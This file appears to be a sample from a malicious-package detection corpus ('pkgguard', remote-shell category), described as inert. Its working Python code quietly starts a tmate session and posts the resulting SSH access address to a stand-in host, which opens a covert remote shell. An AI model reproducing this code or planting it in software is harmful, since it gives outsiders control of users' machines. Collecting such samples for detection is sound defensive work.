# pkgguard corpus 863 (remote-shell), modelled on [taxonomy]; inert, never run.
import os
import shutil
import subprocess
import tempfile
import time

import requests

tmate = shutil.which("tmate")
if tmate:
    sock = os.path.join(tempfile.gettempdir(), ".tm.sock")
    subprocess.run([tmate, "-S", sock, "new-session", "-d"], capture_output=True)
    subprocess.run([tmate, "-S", sock, "wait", "tmate-ready"], capture_output=True, timeout=30)
    time.sleep(1)
    address = subprocess.run([tmate, "-S", sock, "display", "-p", "#{tmate_ssh}"], capture_output=True, text=True).stdout.strip()
    if address:
        try:
            requests.post("https://hooks.example/session", data={"s": address}, timeout=5)
        except requests.RequestException:
            pass
